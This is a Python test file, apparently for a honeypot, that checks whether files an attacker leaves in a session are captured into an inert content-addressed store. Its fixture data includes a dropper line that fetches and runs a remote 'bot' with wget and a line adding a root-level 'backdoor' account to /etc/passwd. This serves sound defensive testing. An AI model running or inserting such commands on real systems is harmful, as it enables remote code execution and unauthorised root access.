"""Issue 4 item 6: everything the attacker left is captured at session end: files added or
modified anywhere (tmpfs mounts /tmp and /dev/shm included), deletions, into the content-addressed
store <artifacts.output_dir>/<sha256>, inert (0440), once per content, within the caps."""
import hashlib
import os
import stat
import time

from hermes_itest import events as ev
from hermes_itest.waiting import wait_until

SUMMARY = "hermes.session.artifacts"
CREATED = "hermes.session.file_created"
MODIFIED = "hermes.session.file_modified"
DELETED = "hermes.session.file_deleted"

DROPPER = b"#!/bin/sh\nwget http://203.0.113.9/bot -O /tmp/.b && sh /tmp/.b\n"
TMP_FILE = b"tmp payload \x00\x01\x02 binary\n"
SHM_FILE = b"shared memory stash\n"
PASSWD_LINE = b"backdoor:x:0:0::/root:/bin/sh\n"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def printf_arg(data: bytes) -> str:
    """`data` as a printf format that reproduces it byte for byte (octal escapes)."""
    return "'" + "".join(f"\\{b:03o}" for b in data) + "'"


def file_events(server, session: str) -> dict[str, dict]:
    return {e["filename"]: e for e in server.events(session)
            if e.get("eventid") in (CREATED, MODIFIED, DELETED)}


def assert_stored(server, event: dict, data: bytes) -> None:
    assert event["shasum"] == sha(data), event
    assert event["size"] == len(data), event
    stored = server.artifacts_dir / event["shasum"]
    assert stored.read_bytes() == data
    mode = stat.S_IMODE(stored.stat().st_mode)
    assert mode == 0o440, oct(mode)


def test_interactive_session_leaves_files_everywhere_and_all_are_captured(hermes_server, shells):
    server = hermes_server()
    shell, session = server.login_shell(shells, cols=1000)  # long printf lines must not wrap
    shell.run(f"printf {printf_arg(DROPPER)} > /root/x.sh; chmod +x /root/x.sh")
    shell.run(f"printf {printf_arg(TMP_FILE)} > /tmp/y")
    shell.run(f"printf {printf_arg(SHM_FILE)} > /dev/shm/z")
    shell.run(f"printf {printf_arg(PASSWD_LINE)} >> /etc/passwd")
    shell.run("rm /etc/debian_version; mkdir -p /root/empty/dir; ln -s /etc/shadow /root/link")
    original_passwd = b"root:x:0:0:root:/root:/bin/sh\n"
    assert shell.exit() == 0  # the shell's exit stops the container: tmpfs survives through init

    summary = server.wait_for_event(session, SUMMARY, timeout=60)
    files = file_events(server, session)
    assert files["/root/x.sh"]["eventid"] == CREATED
    assert files["/root/x.sh"]["duplicate"] is False
    assert_stored(server, files["/root/x.sh"], DROPPER)
    assert files["/tmp/y"]["eventid"] == CREATED
    assert_stored(server, files["/tmp/y"], TMP_FILE)
    assert files["/dev/shm/z"]["eventid"] == CREATED
    assert_stored(server, files["/dev/shm/z"], SHM_FILE)
    assert files["/etc/passwd"]["eventid"] == MODIFIED
    assert_stored(server, files["/etc/passwd"], original_passwd + PASSWD_LINE)
    assert files["/etc/debian_version"]["eventid"] == DELETED
    assert "shasum" not in files["/etc/debian_version"]
    # A symlink is listed, never followed; directories are not files.
    assert files["/root/link"]["skipped"] == "not a regular file"
    assert "shasum" not in files["/root/link"]
    assert not any(name.startswith("/root/empty") for name in files)
    assert not any(name.startswith("/.hermes-tmpfs") for name in files)
    assert "error" not in summary, summary
    assert summary["stored"] >= 4 and summary["unlisted"] == 0

    # The session's own close event still comes, after the capture.
    closed = server.wait_for_event(session, "hermes.session.closed")
    order = [e["eventid"] for e in server.events(session)]
    assert order.index(SUMMARY) < order.index("hermes.session.closed")
    assert closed["exit_status"] == 0

    # Nothing in the store but finished, inert, hash-named files.
    for path in server.artifacts_dir.iterdir():
        assert len(path.name) == 64 and path.read_bytes() and sha(path.read_bytes()) == path.name
        assert stat.S_IMODE(path.stat().st_mode) == 0o440


def test_exec_session_tmpfs_and_duplicates(hermes_server):
    server = hermes_server()
    first = server.exec(f"printf {printf_arg(DROPPER)} > /root/x.sh")
    assert first.returncode == 0, first.stderr
    # A second session (its own container) drops the same bytes under another name, and tmpfs
    # files while its container is still running (captured by the exec of /proc/1/exe).
    second = server.exec(f"printf {printf_arg(DROPPER)} > /root/again.sh; "
                         f"printf {printf_arg(TMP_FILE)} > /tmp/e; mkdir /dev/shm/d; "
                         f"printf {printf_arg(SHM_FILE)} > /dev/shm/d/f")
    assert second.returncode == 0, second.stderr
    sessions = server.session_ids()
    assert len(sessions) == 2
    for session in sessions:
        server.wait_for_event(session, SUMMARY, timeout=60)
    one, two = (file_events(server, s) for s in sessions)
    assert one["/root/x.sh"]["duplicate"] is False
    assert two["/root/again.sh"]["duplicate"] is True
    assert two["/root/again.sh"]["shasum"] == one["/root/x.sh"]["shasum"] == sha(DROPPER)
    assert_stored(server, two["/tmp/e"], TMP_FILE)
    assert_stored(server, two["/dev/shm/d/f"], SHM_FILE)
    summary = server.wait_for_event(sessions[1], SUMMARY)
    # The dropper, and the login records hermes-init writes the same way in both sessions.
    assert summary["duplicates"] == sum(1 for e in two.values() if e.get("duplicate")) >= 1


def test_caps_bound_what_is_copied_and_what_is_listed(hermes_server):
    server = hermes_server(overrides={"artifacts": {
        "max_files": 4, "max_file_size": "1k", "max_session_size": "2k"}})
    script = ("dd if=/dev/zero of=/root/a bs=1000 count=5 2>/dev/null; "
              "for f in b c d; do dd if=/dev/zero of=/root/$f bs=900 count=1 2>/dev/null; done; "
              "mkdir /root/many; i=0; while [ $i -lt 60 ]; do echo $i > /root/many/$i; i=$((i+1)); done")
    result = server.exec(script)
    assert result.returncode == 0, result.stderr
    session = server.session_ids()[0]
    summary = server.wait_for_event(session, SUMMARY, timeout=60)
    files = file_events(server, session)
    assert set(files) == {"/root/a", "/root/b", "/root/c", "/root/d"}, sorted(files)
    assert files["/root/a"]["skipped"] == "max_file_size" and files["/root/a"]["size"] == 5000
    assert "shasum" not in files["/root/a"]
    assert_stored(server, files["/root/b"], bytes(900))
    assert files["/root/c"]["duplicate"] is True  # same zeros as /root/b
    assert files["/root/d"]["skipped"] == "max_session_size"
    assert summary["files"] == 4 and summary["stored"] == 2 and summary["bytes"] == 1800
    assert summary["unlisted"] >= 60
    assert len(list(server.artifacts_dir.iterdir())) == 1


def test_disabled_capture_leaves_no_trace(hermes_server):
    server = hermes_server(overrides={"artifacts": {"enabled": False}})
    result = server.exec("echo x > /root/x")
    assert result.returncode == 0, result.stderr
    session = server.session_ids()[0]
    server.wait_for_event(session, "hermes.session.closed")
    assert not ev.with_id(server.events(session), SUMMARY)
    assert not server.artifacts_dir.exists()


def test_retention_counts_the_store_and_removes_the_oldest_artifact(hermes_server):
    cap = 30 * 1024
    server = hermes_server(overrides={"retention": {"max_data_size": str(cap)}})
    server.artifacts_dir.mkdir(parents=True, exist_ok=True)
    old_bytes = b"o" * (25 * 1024)
    old = server.artifacts_dir / sha(old_bytes)
    old.write_bytes(old_bytes)
    three_days_ago = time.time() - 3 * 86400
    os.utime(old, (three_days_ago, three_days_ago))
    stray = server.artifacts_dir / ".partial-abc123"  # not a stored artifact: never counted or removed
    stray.write_bytes(b"p" * (50 * 1024))
    result = server.exec("dd if=/dev/urandom of=/root/new bs=1024 count=10 2>/dev/null")
    assert result.returncode == 0, result.stderr
    session = server.session_ids()[0]
    new = server.wait_for_event(session, CREATED, match=lambda e: e["filename"] == "/root/new")

    removed = wait_until(lambda: ev.with_id(server.events(), "hermes.artifact.removed"), 60,
                         "a hermes.artifact.removed event")
    assert [(e["shasum"], e["size"], e["reason"]) for e in removed] == [(old.name, len(old_bytes), "size")]
    assert not old.exists()
    assert (server.artifacts_dir / new["shasum"]).exists()
    assert stray.exists()
